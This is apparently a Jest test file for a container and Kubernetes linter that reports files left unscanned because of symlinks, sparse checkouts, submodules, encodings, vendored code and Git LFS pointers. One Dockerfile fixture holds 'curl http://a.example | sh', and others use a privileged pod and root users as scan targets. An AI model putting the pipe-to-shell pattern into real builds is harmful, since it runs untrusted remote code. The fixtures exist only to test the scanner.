import { mkdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import type { Report } from '../../src/core/report.js';
import { nothingLinted, nothingScanned } from '../../src/discover/unscanned.js';
import { gitStory } from '../baseline/git-story.js';
import { createRepository } from '../git-repository.js';

const found = { root: 'shop', files: 0, images: 0, required: true };

test('says nothing when there are images', () => {
  expect(nothingScanned({ ...found, images: 1 })).toMatchObject({ notes: [], incomplete: [] });
});

test('notes that no image was scanned', () => {
  const { notes, incomplete } = nothingScanned({ ...found, files: 3 });
  expect([notes[0]?.message, incomplete]).toEqual([
    expect.stringMatching(/no image was scanned/),
    [],
  ]);
});

test('nothing to check is incomplete, and the reason names the folder and what to do', () => {
  expect(nothingScanned(found).incomplete).toEqual([
    {
      check: 'lint',
      target: 'shop',
      reason: expect.stringMatching(/nothing to lint or scan\. Check/),
    },
  ]);
});

test('nothing to check is a note where nothing has to be there', () => {
  const { notes, incomplete } = nothingScanned({ ...found, required: false });
  expect([notes[0]?.message, incomplete]).toEqual([
    expect.stringMatching(/nothing to lint or scan/),
    [],
  ]);
});

test('lint without a file is incomplete', () => {
  expect(nothingLinted(1).incomplete).toEqual([]);
  expect(nothingLinted(0).incomplete).toMatchObject([{ check: 'lint', target: '.' }]);
});

describe('what Git tracks', () => {
  let story: ReturnType<typeof gitStory>;
  beforeEach(() => {
    story = gitStory();
  });
  afterEach(() => story.remove());
  const pod =
    'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{name: c, image: a, securityContext: {privileged: true}}]}\n';

  describe('and that is a link to a folder', () => {
    const FINE = 'FROM scratch\nUSER 1\n';
    const rows = ({ coverage, findings }: Report) => [
      ...coverage.flatMap((row) =>
        row.state === 'not-covered' && row.check === 'lint'
          ? `${row.target} ${row.informational ? 'informational' : 'incomplete'}`
          : [],
      ),
      ...findings.flatMap(({ status, location }) =>
        status === 'fixed' ? `${location?.path}` : [],
      ),
    ];

    test('is a gap if it leads out and the change makes it', async () => {
      mkdirSync(join(story.root, '../elsewhere'));
      story.base({ 'sub/Dockerfile': `${FINE}RUN sudo a\n`, Dockerfile: FINE });
      rmSync(join(story.root, 'sub'), { recursive: true });
      symlinkSync('../elsewhere', join(story.root, 'sub'));
      story.commit({});
      expect(rows(await story.run())).toEqual(['sub incomplete']);
    });

    test('is told if it leads out and was there', async () => {
      mkdirSync(join(story.root, '../elsewhere'));
      symlinkSync('../elsewhere', join(story.root, 'sub'));
      story.base({ Dockerfile: FINE });
      story.commit({ a: '' });
      expect(rows(await story.run())).toEqual(['sub informational']);
    });

    test('is no gap if it leads to a folder that is searched, or to nothing', async () => {
      story.base({ 'a/Dockerfile': FINE });
      symlinkSync('a', join(story.root, 'b'));
      symlinkSync('nothing', join(story.root, 'c'));
      story.commit({});
      expect(rows(await story.run())).toEqual([]);
    });
  });

  test('is checked below an ignored folder, and compared with the base commit', async () => {
    story.base({ Dockerfile: 'FROM scratch\n', '.gitignore': 'out/\nlocal.yaml\n' });
    story.commit({ 'out/deep/pod.yaml': pod, 'out/other.yaml': pod, 'local.yaml': pod });
    story.git('add', '-f', 'out/deep/pod.yaml');
    story.git('commit', '-qm', 'forced');
    const added = await story.run();
    expect(added.targets.map(({ name }) => name)).toEqual(['Dockerfile', 'out/deep/pod.yaml']);
    expect(added.findings.find(({ rule }) => rule === 'DEP-PRIV')?.status).toBe('new');
    story.git('branch', '-f', 'main');
    story.commit({ 'readme.md': 'x' });
    const later = await story.run();
    expect(later.findings.find(({ rule }) => rule === 'DEP-PRIV')?.status).toBe('existing');
  });

  /** What was not checked: the target, and whether it counts. */
  const left = ({ coverage }: Report) =>
    coverage
      .filter(({ check, state }) => check === 'lint' && state === 'not-covered')
      .map(({ target, informational = false }) => ({ target, informational }));

  test('is a gap where Git writes it in an encoding that is not read', async () => {
    story.base({ Dockerfile: 'FROM scratch\n' });
    story.commit({
      '.gitattributes':
        '*.py working-tree-encoding=IBM037\n*.txt working-tree-encoding=ISO-8859-1\n',
      'a.py': 'token = "x"\n',
      'b.txt': 'text\n',
    });
    const report = await story.run();
    expect(left(report)).toEqual([{ target: 'a.py', informational: false }]);
    expect(report.verdict.outcome).toBe('incomplete');
  });

  test('is a gap in vendored code where the change adds or moves it', async () => {
    story.base({ Dockerfile: 'FROM scratch\n', 'vendor/old/Dockerfile': 'FROM scratch\n' });
    story.commit({
      Dockerfile: undefined,
      'vendor/Dockerfile': 'FROM scratch\n',
      'node_modules/a/pod.yaml': pod,
      'vendor/data.yaml': 'a: 1\n',
      'vendor/dockerfile.go': 'package dockerfile\n',
    });
    const report = await story.run();
    expect(left(report)).toEqual([
      { target: 'node_modules/a/pod.yaml', informational: false },
      { target: 'vendor/Dockerfile', informational: false },
      { target: 'vendor/old/Dockerfile', informational: true },
    ]);
    expect(report.verdict.outcome).toBe('incomplete');
  });

  test('is not hidden behind many other files that the change adds', async () => {
    story.base({ Dockerfile: 'FROM scratch\n' });
    const many = Array.from({ length: 60 }, (_, i) => [`vendor/${i}/Dockerfile`, 'FROM scratch\n']);
    story.commit(Object.fromEntries(many));
    const { coverage, verdict } = await story.run();
    const reasons = coverage.map(({ reason = '' }) => reason).join('\n');
    expect([verdict.outcome, reasons]).toEqual([
      'incomplete',
      expect.stringContaining('40 files, such as vendor/'),
    ]);
  });

  test('is a gap where a submodule is not checked out', async () => {
    story.base({ Dockerfile: 'FROM scratch\n' });
    const commit = story.git('rev-parse', 'HEAD');
    mkdirSync(join(story.root, 'sub'));
    story.git('update-index', '--add', '--cacheinfo', `160000,${commit},sub`);
    const report = await story.run([], true);
    expect(left(report)).toEqual([{ target: 'sub', informational: false }]);
    expect(report.verdict.outcome).toBe('incomplete');
    story.git('commit', '-qm', 'submodule');
    story.git('branch', '-f', 'main');
    story.commit({ 'readme.md': 'x' });
    expect(left(await story.run())).toEqual([{ target: 'sub', informational: true }]);
  });

  describe('and a sparse checkout leaves out', () => {
    const harm = 'FROM scratch\nRUN curl http://a.example | sh\n';
    beforeEach(() => {
      story.base({ 'docs/a.md': 'a', 'svc/Dockerfile': harm, 'svc/b/Dockerfile': harm });
    });

    test('is a gap on main', async () => {
      story.git('sparse-checkout', 'set', 'docs');
      const report = await story.run([], true);
      expect(left(report)).toEqual([{ target: 'svc', informational: false }]);
      expect(report.verdict.outcome).toBe('incomplete');
    });

    test('is told where the change does not touch it, and nothing of it is fixed', async () => {
      story.commit({ 'docs/b.md': 'b' });
      story.git('sparse-checkout', 'set', 'docs');
      for (const words of [undefined, ['--baseline-ref', 'main']]) {
        const report = await story.run(words, words !== undefined);
        expect(left(report)).toEqual([{ target: 'svc', informational: true }]);
        expect(report.baseline).toBeDefined();
        expect(report.findings).toEqual([]);
      }
    });

    test('is a gap where the change touches it, and nothing of it is fixed', async () => {
      story.commit({ 'svc/Dockerfile': `${harm}USER root\n` });
      story.git('sparse-checkout', 'set', 'docs');
      const report = await story.run();
      expect(left(report)).toEqual([
        { target: 'svc/Dockerfile', informational: false },
        { target: 'svc/b/Dockerfile', informational: true },
      ]);
      expect(report.findings).toEqual([]);
    });
  });

  test('and something deleted is told, unless the change deletes it', async () => {
    story.base({ 'a/Dockerfile': 'FROM scratch\n', 'b/Dockerfile': 'FROM scratch\n' });
    rmSync(join(story.root, 'a/Dockerfile'));
    const deleted = { target: 'a/Dockerfile', informational: true };
    expect(left(await story.run([], true))).toEqual([deleted]);
    expect(left(await story.run())).toEqual([deleted]);
    expect(left(await story.run(['--baseline-ref', 'main'], true))).toEqual([]);
  });

  test('and a gap where a commit of the change brings it and something deletes it', async () => {
    story.base({ 'a/Dockerfile': 'FROM scratch\n', Dockerfile: 'FROM scratch\n' });
    story.commit({ 'a/Dockerfile': 'FROM scratch\nUSER 1\n', 'b/Dockerfile': 'FROM debian\n' });
    for (const path of ['a/Dockerfile', 'b/Dockerfile']) rmSync(join(story.root, path));
    const deleted = ['a/Dockerfile', 'b/Dockerfile'].map((target) => ({
      target,
      informational: false,
    }));
    expect(left(await story.run())).toEqual(deleted);
    expect(left(await story.run(['--baseline-ref', 'main'], true))).toEqual(deleted);
    story.git('rm', '-q', 'a/Dockerfile', 'b/Dockerfile');
    expect(left(await story.run(['--baseline-ref', 'main'], true))).toEqual([]);
  });

  test('and the checkout of another repository in it is told', async () => {
    story.base({ Dockerfile: 'FROM scratch\n' });
    createRepository(join(story.root, 'tools'));
    const report = await story.run([], true);
    expect(left(report)).toEqual([{ target: 'tools', informational: true }]);
  });
});

describe('a pointer of Git LFS', () => {
  let story: ReturnType<typeof gitStory>;
  beforeEach(() => {
    story = gitStory();
  });
  afterEach(() => story.remove());
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d'.repeat(32)}\nsize 9\n`;
  const rows = ({ coverage }: Report) =>
    coverage
      .filter(({ reason = '' }) => reason.includes('Git LFS'))
      .map(({ target, informational = false }) => [target, informational]);

  test('is a gap in the place of a Dockerfile or manifest, and told elsewhere', async () => {
    story.base({ 'app/Dockerfile': pointer, 'media/logo.png': pointer, 'media/film.mp4': pointer });
    const report = await story.run([], true);
    expect(rows(report)).toEqual([
      ['app/Dockerfile', false],
      ['media', true],
    ]);
    expect(report.findings).toEqual([]);
    story.commit({ 'b/compose.yaml': pointer, 'b/c.png': pointer });
    expect(rows(await story.run())).toEqual([
      ['b/compose.yaml', false],
      ['app/Dockerfile', true],
      ['.', true],
    ]);
  });

  test('makes few rows, however many there are', async () => {
    const names = Array.from({ length: 300 }, (_, i) => `deploy/${i}.yaml`);
    story.base({ 'readme.md': 'a' });
    story.commit(Object.fromEntries(names.map((name) => [name, pointer])));
    const report = await story.run();
    expect(rows(report)).toHaveLength(21);
    expect(report.verdict.outcome).toBe('incomplete');
  });
});
